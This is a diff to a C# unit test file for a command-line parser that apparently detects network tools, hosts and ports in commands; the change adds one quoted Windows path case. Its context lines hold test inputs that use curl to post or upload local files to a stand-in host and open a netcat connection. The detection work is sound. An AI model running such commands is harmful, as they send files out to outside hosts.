@@ -62,6 +62,7 @@ public class CommandLineReaderTests
     [InlineData("cmd /c curl.exe -d @x http://h.example", "cmd.exe", "curl", "post-data", "http", "h.example", 80)]
     [InlineData("timeout 30 nc h.example 9", "timeout", "nc", null, null, "h.example", 9)]
     [InlineData("sudo apt install curl", "sudo", null, null, null, null, null)]
+    [InlineData("\"C:\\\\Windows\\\\System32\\\\x.exe\"", "x.exe", null, null, null, null, null)]
     [InlineData("man scp", "man", null, null, null, null, null)]
     [InlineData("notepad.exe c:\\notes\\ftp.txt", "notepad.exe", null, null, null, null, null)]
     [InlineData("python3 -c \"import os;os.system('curl -F a=@b https://h.example')\"", "python3", "python", null, "ssl", "h.example", 443)]
